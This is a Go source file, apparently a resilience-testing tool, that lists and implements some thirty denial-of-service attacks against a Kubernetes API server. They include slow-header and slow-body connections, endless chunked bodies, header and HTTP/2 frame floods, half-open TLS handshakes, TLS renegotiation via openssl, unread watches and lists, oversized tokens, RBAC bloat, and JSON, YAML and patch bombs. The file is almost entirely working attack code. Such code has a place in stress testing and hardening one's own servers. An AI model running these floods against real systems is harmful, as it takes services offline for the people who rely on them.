package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os/exec"
	"strings"
	"time"
)

type attack struct {
	name, about string
	make        func(ctx context.Context, t *target) *crowd
}

// Those with a token have been let in; the others are nobody.
var attacks = []attack{
	{"none", "nobody attacks", func(ctx context.Context, t *target) *crowd { return &crowd{} }},
	{"headers-slow", "500 connections send a byte of their header each 100 ms", withConnection(500, func(ctx context.Context, t *target, c net.Conn) {
		_, _ = io.WriteString(c, t.head("GET", "/api", "", "X-Slow: "))
		trickle(ctx, c, 100*time.Millisecond)
	})},
	{"bodies-slow", "500 connections with a token send a byte of their body each 100 ms", withConnection(500, func(ctx context.Context, t *target, c net.Conn) {
		_, _ = io.WriteString(c, t.head("POST", attackRoom+"/configmaps", t.token, "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"))
		trickle(ctx, c, 100*time.Millisecond)
	})},
	{"bodies-short", "500 connections with a token send a body of 3 MB but for its last byte, and wait", withConnection(500, func(ctx context.Context, t *target, c net.Conn) {
		const size = 3_000_000
		_, _ = io.WriteString(c, t.head("POST", attackRoom+"/configmaps", t.token, fmt.Sprintf("Content-Type: application/json\r\nContent-Length: %d\r\n\r\n", size)))
		if _, err := c.Write(bytes.Repeat([]byte(" "), size-1)); err == nil {
			untilClosed(ctx, c)
		}
	})},
	{"bodies-huge", "10 connections with a token send a body without an end", withConnection(10, func(ctx context.Context, t *target, c net.Conn) {
		pour(ctx, c, t.head("POST", attackRoom+"/configmaps", t.token, "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"),
			[]byte("400\r\n"+strings.Repeat(" ", 1024)+"\r\n"))
		sleep(ctx, 50*time.Millisecond)
	})},
	{"bodies-nobody", "10 connections without a token send a body without an end", withConnection(10, func(ctx context.Context, t *target, c net.Conn) {
		pour(ctx, c, t.head("POST", attackRoom+"/configmaps", "", "Content-Type: application/json\r\nContent-Length: 1000000000\r\n\r\n"), make([]byte, 16<<10))
		sleep(ctx, 50*time.Millisecond)
	})},
	{"headers-large", "1,000 connections send 120 KB of a header that does not end, and wait", withConnection(1000, func(ctx context.Context, t *target, c net.Conn) {
		if _, err := io.WriteString(c, t.head("GET", "/api", "", strings.Repeat("A: "+strings.Repeat("x", 1000)+"\r\n", 120))); err == nil {
			untilClosed(ctx, c)
		}
		sleep(ctx, 5*time.Second)
	})},
	{"bodies-slow-nobody", "500 connections without a token send a byte of their body each 100 ms", withConnection(500, func(ctx context.Context, t *target, c net.Conn) {
		_, _ = io.WriteString(c, t.head("POST", attackRoom+"/configmaps", "", "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"))
		trickle(ctx, c, 100*time.Millisecond)
	})},
	{"chunks", "10 connections with a token send chunks of one byte with extensions of 8 KB", withConnection(10, func(ctx context.Context, t *target, c net.Conn) {
		pour(ctx, c, t.head("POST", attackRoom+"/configmaps", t.token, "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"),
			[]byte("1;a="+strings.Repeat("x", 8192)+"\r\n \r\n"))
		sleep(ctx, 50*time.Millisecond)
	})},
	{"headers-many", "20 connections send 100,000 fields, or one of 128 KB, each 20 ms", headersMany},
	{"tls-half", "1,000 connections send the first bytes of a handshake, and wait", func(ctx context.Context, t *target) *crowd {
		return repeat(ctx, 1000, 10*time.Millisecond, func(ctx context.Context, _ int) {
			if c, err := t.plain(ctx); err == nil {
				_, _ = io.WriteString(c, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
				untilClosed(ctx, c)
			}
		})
	}},
	{"tls-many", "handshakes without a request, 200 a second", func(ctx context.Context, t *target) *crowd {
		return repeat(ctx, 4, 20*time.Millisecond, func(ctx context.Context, _ int) {
			if c, err := t.connect(ctx); err == nil {
				_ = c.Close()
			}
		})
	}},
	{"tls-again", "20 clients ask for renegotiation on each connection", tlsAgain},
	{"connections", "10,000 connections that say nothing", func(ctx context.Context, t *target) *crowd {
		return repeat(ctx, 10_000, 100*time.Millisecond, func(ctx context.Context, i int) {
			sleep(ctx, time.Duration(i/10)*time.Millisecond)
			if c, err := t.plain(ctx); err == nil {
				untilClosed(ctx, c)
			}
		})
	}},
	{"idle", "1,000 connections with a token, each after one answer", withConnection(1000, func(ctx context.Context, t *target, c net.Conn) {
		_, _ = io.WriteString(c, t.head("GET", "/version", t.token, "\r\n"))
		untilClosed(ctx, c)
	})},
	{"http2", "20 connections send the frames of HTTP/2 floods: settings, pings, resets, continuations", http2Floods},
	{"watches-deaf", "500 watches with a token that read nothing, of an object that changes", watchesDeaf},
	{"lists-deaf", "30 lists of 8 MB with a token, of which nothing is read", listsDeaf},
	{"lists-left", "20 clients with a token ask for lists of 8 MB, and leave", listsLeft},
	{"pipelines", "20 connections with a token send requests one after the other, and read nothing", withConnection(20, func(ctx context.Context, t *target, c net.Conn) {
		pour(ctx, c, "", []byte(strings.Repeat(t.head("GET", "/version", t.token, "\r\n"), 100)))
		sleep(ctx, 50*time.Millisecond)
	})},
	{"websockets", "100 connections with a token, and 100 without, ask for an upgrade and send pings", websockets},
	{"tokens", "20 connections show tokens of 100 KB that are not good", tokens},
	{"versions", "40 clients with a token ask for versions that are not there yet", versions},
	{"waits", "400 clients with a token make pods of an account that is waited for", waits},
	{"roles", "4 clients with a token write Roles and bindings of a hundred rules and subjects", roles},
	{"selectors", "4 clients with a token list with selectors of 100 KB", bombs(selectorBombs)},
	{"json", "4 clients with a token post JSON that is deep, wide, or has huge numbers", bombs(jsonBombs)},
	{"yaml", "4 clients with a token post YAML with aliases of aliases, deep, wide", bombs(yamlBombs)},
	{"patches", "4 clients with a token send patches that multiply, or have very many parts", bombs(patchBombs)},
}

const attackRoom = "/api/v1/namespaces/attack"

// withConnection gives each of `count` a connection, and another when it has ended.
func withConnection(count int, do func(ctx context.Context, t *target, c net.Conn)) func(context.Context, *target) *crowd {
	return func(ctx context.Context, t *target) *crowd {
		return repeatLater(ctx, count, between, 10*time.Millisecond, func(ctx context.Context, i int) {
			if c, err := t.connect(ctx); err == nil {
				do(ctx, t, c)
				_ = c.Close()
			}
		})
	}
}

func headersMany(ctx context.Context, t *target) *crowd {
	many := strings.Repeat("a: b\r\n", 100_000)
	long := "X-Long: " + strings.Repeat("x", 128_000) + "\r\n\r\n"
	return repeat(ctx, 20, 20*time.Millisecond, func(ctx context.Context, i int) {
		c, err := t.connect(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		token := ""
		if i%4 > 1 {
			token = t.token
		}
		if i%2 == 0 {
			_, _ = io.WriteString(c, t.head("GET", "/version", token, many))
		} else {
			_, _ = io.WriteString(c, t.head("GET", "/version", token, long))
		}
		answer(c)
	})
}

// Go's TLS asks for none. OpenSSL's client does when it reads an R on a line; TLS 1.3 has none.
func tlsAgain(ctx context.Context, t *target) *crowd {
	return repeat(ctx, 20, 100*time.Millisecond, func(ctx context.Context, _ int) {
		command := exec.CommandContext(ctx, "openssl", "s_client", "-connect", t.address, "-tls1_2")
		command.Stdin = strings.NewReader(strings.Repeat("R\n", 100))
		_ = command.Run()
	})
}

func http2Floods(ctx context.Context, t *target) *crowd {
	frame := func(kind, flags byte, stream uint32, payload string) string {
		return string([]byte{0, byte(len(payload) >> 8), byte(len(payload)), kind, flags,
			byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}) + payload
	}
	const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	floods := []string{
		frame(4, 0, 0, ""),         // settings
		frame(6, 0, 0, "12345678"), // pings
		frame(1, 5, 1, "\x82\x84\x87") + frame(3, 0, 1, "\x00\x00\x00\x08"), // streams that are reset
		frame(9, 0, 1, strings.Repeat("\x00", 1000)),                        // continuations
	}
	return repeat(ctx, 20, 20*time.Millisecond, func(ctx context.Context, i int) {
		settings := *t
		if i%2 == 0 {
			settings.tls = t.tls.Clone()
			settings.tls.NextProtos = []string{"h2"}
		}
		c, err := settings.connect(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		pour(ctx, c, preface, []byte(strings.Repeat(floods[i%len(floods)], 100)))
	})
}

// prepare makes the namespace and objects that attackers with a token use.
func prepare(ctx context.Context, t *target, objects int, size int) *client {
	c := &client{target: t}
	_, _, _ = c.do(ctx, "POST", "/api/v1/namespaces", "application/json", []byte(`{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"attack"}}`))
	for i := range objects {
		_, _, _ = c.do(ctx, "POST", attackRoom+"/configmaps", "application/json", noise(i, size))
	}
	return c
}

func noise(i, size int) []byte {
	return fmt.Appendf(nil, `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"noise-%d"},"data":{"at":"%d","text":"%s"}}`,
		i, time.Now().UnixNano(), strings.Repeat("n", size))
}

func watchesDeaf(ctx context.Context, t *target) *crowd {
	writer := prepare(ctx, t, 1, 100_000)
	crowd := deaf(ctx, t, 500, attackRoom+"/configmaps?watch=1")
	crowd.done.Add(1)
	go func() {
		defer crowd.done.Done()
		defer writer.close()
		for ctx.Err() == nil {
			_, _, _ = writer.do(ctx, "PUT", attackRoom+"/configmaps/noise-0", "application/json", noise(0, 100_000))
			sleep(ctx, 50*time.Millisecond)
		}
	}()
	return crowd
}

func listsDeaf(ctx context.Context, t *target) *crowd {
	prepare(ctx, t, 20, 400_000).close()
	return deaf(ctx, t, 30, attackRoom+"/configmaps")
}

func listsLeft(ctx context.Context, t *target) *crowd {
	prepare(ctx, t, 20, 400_000).close()
	return withConnection(20, func(ctx context.Context, t *target, c net.Conn) {
		_, _ = io.WriteString(c, t.head("GET", attackRoom+"/configmaps", t.token, "\r\n"))
	})(ctx, t)
}

func websockets(ctx context.Context, t *target) *crowd {
	prepare(ctx, t, 1, 1000).close()
	const upgrade = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
	// A ping of 125 bytes whose mask is zero.
	ping := "\x89\xfd\x00\x00\x00\x00" + strings.Repeat("p", 125)
	return repeatLater(ctx, 200, between, 20*time.Millisecond, func(ctx context.Context, i int) {
		c, err := t.connect(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		token := ""
		if i%2 == 0 {
			token = t.token
		}
		if _, err := io.WriteString(c, t.head("GET", attackRoom+"/configmaps?watch=1", token, upgrade)); err != nil {
			return
		}
		for ctx.Err() == nil {
			if _, err := io.WriteString(c, strings.Repeat(ping, 10)); err != nil {
				return
			}
			sleep(ctx, 100*time.Millisecond)
		}
	})
}

func tokens(ctx context.Context, t *target) *crowd {
	long := strings.Repeat("x", 100_000)
	guesses := []string{long, "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + long + ".x", strings.Repeat(t.token, 100_000/len(t.token))}
	return repeat(ctx, 20, 10*time.Millisecond, func(ctx context.Context, i int) {
		c, err := t.connect(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		_, _ = io.WriteString(c, t.head("GET", attackRoom+"/secrets", guesses[i%len(guesses)], "\r\n"))
		answer(c)
	})
}

func versions(ctx context.Context, t *target) *crowd {
	prepare(ctx, t, 1, 1000).close()
	const future = "resourceVersion=9999999999999999"
	paths := []string{"?" + future, "?" + future + "&resourceVersionMatch=NotOlderThan", "?" + future + "&resourceVersionMatch=Exact&limit=1",
		"/noise-0?" + future, "?watch=1&" + future}
	return repeatWith(ctx, t, 40, func(ctx context.Context, c *client) {
		for _, path := range paths {
			_, _, _ = c.do(ctx, "GET", attackRoom+"/configmaps"+path, "", nil)
		}
		sleep(ctx, 20*time.Millisecond)
	})
}

// The account default is made by a controller, soon after its namespace: a server with the plugin ServiceAccount waits for it.
func waits(ctx context.Context, t *target) *crowd {
	prepare(ctx, t, 0, 0).close()
	const pod = `{"apiVersion":"v1","kind":"Pod","metadata":{"generateName":"p-"},"spec":{"containers":[{"name":"c","image":"i"}]}}`
	return repeatWith(ctx, t, 400, func(ctx context.Context, c *client) {
		if code, _, err := c.do(ctx, "POST", attackRoom+"/pods?dryRun=All", "application/json", []byte(pod)); err != nil || code == 429 {
			sleep(ctx, time.Second)
		}
	})
}

func roles(ctx context.Context, t *target) *crowd {
	maker := prepare(ctx, t, 0, 0)
	defer maker.close()
	const path = "/apis/rbac.authorization.k8s.io/v1/namespaces/attack/"
	for i := range 1000 {
		_, _, _ = maker.do(ctx, "POST", path+"roles", "application/json", fmt.Appendf(nil,
			`{"metadata":{"name":"role-%d"},"rules":[{"verbs":["get","list","watch"],"apiGroups":["","apps"],"resources":["pods","deployments"]}]}`, i))
	}
	rules := list(100, func(i int) string {
		return fmt.Sprintf(`{"verbs":["get"],"apiGroups":["g%d"],"resources":["r%d"]}`, i, i)
	})
	subjects := list(100, func(i int) string { return fmt.Sprintf(`{"kind":"User","name":"u%d"}`, i) })
	return repeatWith(ctx, t, 4, func(ctx context.Context, c *client) {
		meta := fmt.Sprintf(`{"metadata":{"name":"r","labels":{"at":"%d"}},`, time.Now().UnixNano())
		_, _, _ = c.do(ctx, "PUT", path+"roles/r", "application/json", []byte(meta+`"rules":[`+rules+`]}`))
		_, _, _ = c.do(ctx, "PUT", path+"rolebindings/r", "application/json",
			[]byte(meta+`"subjects":[`+subjects+`],"roleRef":{"kind":"Role","name":"r"}}`))
	})
}

// deaf makes requests and reads nothing.
func deaf(ctx context.Context, t *target, count int, path string) *crowd {
	return withConnection(count, func(ctx context.Context, t *target, c net.Conn) {
		_, _ = io.WriteString(c, t.head("GET", path, t.token, "\r\n"))
		<-ctx.Done()
	})(ctx, t)
}
